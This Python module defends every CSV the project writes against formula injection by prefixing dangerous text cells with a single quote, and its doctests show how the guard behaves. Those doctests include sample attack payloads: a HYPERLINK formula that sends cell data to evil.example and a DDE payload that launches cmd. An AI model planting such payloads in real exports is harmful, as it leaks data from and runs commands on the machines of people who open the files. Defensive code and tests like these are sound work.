"""The one guard against CSV formula injection, for every CSV the project writes.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and
tab or carriage return at the start can smuggle one past a first-character check
(OWASP "CSV Injection"). :func:`neutralise` prefixes such a text cell with a single quote,
which spreadsheets show as text and never evaluate. Numbers stay numbers (a negative
number is data, not a formula). Fullwidth forms (``＝``) are checked after NFKC, since some
spreadsheets fold them. :func:`writer` is a ``csv.writer`` whose rows pass the guard.

>>> neutralise('=HYPERLINK("http://evil.example/?"&A1,"click")')
'\\'=HYPERLINK("http://evil.example/?"&A1,"click")'
>>> neutralise("@SUM(1+1)*cmd|' /C calc'!A0")[:2]
"'@"
>>> neutralise("Wynnefield Capital, Inc."), neutralise(-5), neutralise(None)
('Wynnefield Capital, Inc.', -5, None)
"""

from __future__ import annotations

import csv
import unicodedata
from collections.abc import Iterable
from typing import IO, Any

__all__ = ["TRIGGERS", "neutralise", "writer"]

#: First characters that make a spreadsheet evaluate a cell (OWASP).
TRIGGERS = frozenset("=+-@\t\r")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet will show it as text: a text cell beginning with one of
    :data:`TRIGGERS` (or its fullwidth form) gets a leading ``'``; other values unchanged.

    >>> neutralise("\\t=1+1"), neutralise("\\r@x"), neutralise("＝1+1")
    ("'\\t=1+1", "'\\r@x", "'＝1+1")
    >>> neutralise("-3,416,000"), neutralise("a-b")
    ("'-3,416,000", 'a-b')
    """
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first in TRIGGERS or unicodedata.normalize("NFKC", first)[:1] in TRIGGERS:
        return "'" + value
    return value


class _GuardedWriter:
    """A ``csv.writer`` whose every cell passes :func:`neutralise`."""

    def __init__(self, inner: Any) -> None:
        self._inner = inner

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._inner.writerow([neutralise(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: IO[str], **kwargs: Any) -> _GuardedWriter:
    """``csv.writer(fh, **kwargs)`` with the guard on every cell.

    >>> import io
    >>> buf = io.StringIO()
    >>> _ = writer(buf, lineterminator="\\n").writerow(["=1+1", 2, "ok"])
    >>> buf.getvalue()
    "'=1+1,2,ok\\n"
    """
    return _GuardedWriter(csv.writer(fh, **kwargs))
